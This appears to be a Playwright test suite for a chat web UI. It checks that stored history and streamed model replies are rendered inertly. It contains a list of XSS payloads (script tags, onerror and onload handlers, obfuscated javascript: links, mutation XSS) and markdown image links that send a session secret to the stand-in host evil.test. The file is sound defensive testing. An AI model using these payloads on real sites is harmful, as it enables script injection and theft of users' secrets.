"""Model output and stored history are data on the page: nothing in them runs or fetches.

Each payload is shown twice: stored (imported history, as user and assistant text) and
streamed (sent as a message, which the fake upstream's reply repeats, cut into chunks). The
browser is watched for what an attack would do: a dialog, a page error, a CSP violation in the
console, a request to any host but chatd, a global set by script, or markup that could run.
"""

from __future__ import annotations

from typing import Any

import httpx
import pytest
from playwright.sync_api import Page, expect

EVIL = "http://evil.test"

PAYLOADS = {
    "script": "<script>window.__pwned = 1; alert('script')</script>",
    "img_onerror": "<img src=x onerror=\"window.__pwned = 1; alert('img')\">",
    "svg_onload": '<svg onload="window.__pwned = 1; alert(\'svg\')"><circle r="5"/></svg>',
    "javascript_link_markdown": "[click me](javascript:window.__pwned=1;alert('md-link'))",
    "javascript_link_html": "<a href=\"javascript:alert('a')\">click</a>",
    "javascript_link_obfuscated": "[x](jav&#x09;ascript:alert('tab'))  [y](JaVaScRiPt:alert(1))",
    "iframe_srcdoc": '<iframe srcdoc="<script>parent.__pwned = 1</script>"></iframe>',
    "markdown_image_exfiltration": f"![logo]({EVIL}/exfil?secret=SESSION_SECRET)",
    "markdown_image_reference": f"![chart][ref]\n\n[ref]: {EVIL}/ref.png",
    "autolinked_image_url": f"{EVIL}/auto.png <{EVIL}/angle.png>",
    "html_image_exfiltration": f'<img src="{EVIL}/html.png">',
    "data_url_link": "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "mutation_xss": "<math><mtext><table><mglyph><style><img src=x onerror=alert('mx')>",
    "object_embed": f'<object data="{EVIL}/o.swf"></object><embed src="{EVIL}/e.swf">',
    "form_and_meta": f'<form action="{EVIL}/f"><button>go</button></form>'
    f'<meta http-equiv="refresh" content="0;url={EVIL}/m">',
    "style_and_link": f"<style>body{{background:url({EVIL}/bg.png)}}</style>"
    f'<link rel="stylesheet" href="{EVIL}/x.css">',
    "code_fence_html": "```html\n<script>window.__pwned = 1</script>\n```",
}

# What stays allowed inside a rendered message: plain structure, no active content.
FORBIDDEN = "script, iframe, img, svg, math, object, embed, form, meta, link, style, base"


def assert_inert(page: Page, log: Any) -> None:
    """Fail on any sign that something in a message ran or fetched."""
    page.wait_for_timeout(300)  # a late onerror or load would have fired by now
    assert log.dialogs == []
    assert log.errors == []
    # Chromium reports every 4xx answer in the console; a CSP violation reads "Refused to ...".
    reported = [c for c in log.console if "the server responded with a status of 4" not in c]
    assert reported == [], "a CSP violation or script error was reported"
    assert log.elsewhere() == []
    assert page.evaluate("window.__pwned") is None
    conversation = page.locator("#conversation")
    assert conversation.locator(FORBIDDEN).count() == 0
    handlers = page.evaluate(
        """() => [...document.querySelectorAll('#conversation *')].flatMap((el) =>
            [...el.attributes].map((a) => a.name).filter((n) => n.startsWith('on') ||
            n === 'style' || n === 'srcdoc' || n === 'src'))"""
    )
    assert handlers == []
    hrefs = page.evaluate(
        "() => [...document.querySelectorAll('#conversation a[href]')].map((a) => a.href)"
    )
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
    for link in conversation.locator("a[href]").all():
        expect(link).to_have_attribute("rel", "noopener noreferrer")


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_stored_messages_are_shown_not_run(
    name: str, make_server: Any, open_page: Any, imported: Any
) -> None:
    server = make_server()
    payload = PAYLOADS[name]
    imported(server, "stored", [(payload, f"Here it is again:\n\n{payload}\n\nDone.")])
    page, log = open_page(server, "/ui/?session=stored")
    expect(page.locator(".turn")).to_have_count(1)
    expect(page.locator(".turn .bubble.markdown")).to_contain_text("Done.")
    # The user's own text is shown exactly as typed.
    expect(page.locator(".turn .msg.user")).to_have_text(payload)
    assert_inert(page, log)


@pytest.mark.parametrize("name", sorted(PAYLOADS))
def test_streamed_replies_are_shown_not_run(name: str, server: Any, open_page: Any) -> None:
    payload = PAYLOADS[name]
    page, log = open_page(server)
    page.fill("#input", f"{payload} [fake: chunks=9 delay_ms=20]")
    page.press("#input", "Enter")
    expect(page.locator(".turn").last).to_have_attribute("data-state", "complete")
    expect(page.locator(".turn .bubble.markdown").last).to_contain_text("You said")
    assert_inert(page, log)


def test_an_image_is_a_link_that_is_never_loaded(
    make_server: Any, open_page: Any, imported: Any
) -> None:
    server = make_server()
    imported(server, "img", [("show me", f"![the chart]({EVIL}/chart.png)")])
    page, log = open_page(server, "/ui/?session=img")
    link = page.locator(".turn .image-link")
    expect(link).to_have_text("[image: the chart]")
    expect(link).to_have_attribute("href", f"{EVIL}/chart.png")
    expect(link).to_have_attribute("target", "_blank")
    assert_inert(page, log)


def test_a_title_and_session_id_are_text_too(make_server: Any, open_page: Any) -> None:
    server = make_server()
    title = '<img src=x onerror="alert(1)">'
    created = httpx.post(f"{server.url}/v1/sessions", json={"id": "titled", "title": title})
    assert created.status_code == 201, created.text
    page, log = open_page(server, "/ui/?session=titled")
    expect(page.locator("#session-title")).to_have_text(title)
    expect(page.locator('#sessions .session[data-id="titled"] .session-link')).to_have_text(title)
    assert page.locator("#sidebar img, .topbar img").count() == 0
    assert_inert(page, log)


def test_a_session_id_in_the_address_is_text_too(make_server: Any, open_page: Any) -> None:
    server = make_server()
    page, log = open_page(server, "/ui/?session=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E")
    expect(page.locator("#notice")).to_be_visible()
    assert page.locator("#notice img").count() == 0
    assert_inert(page, log)
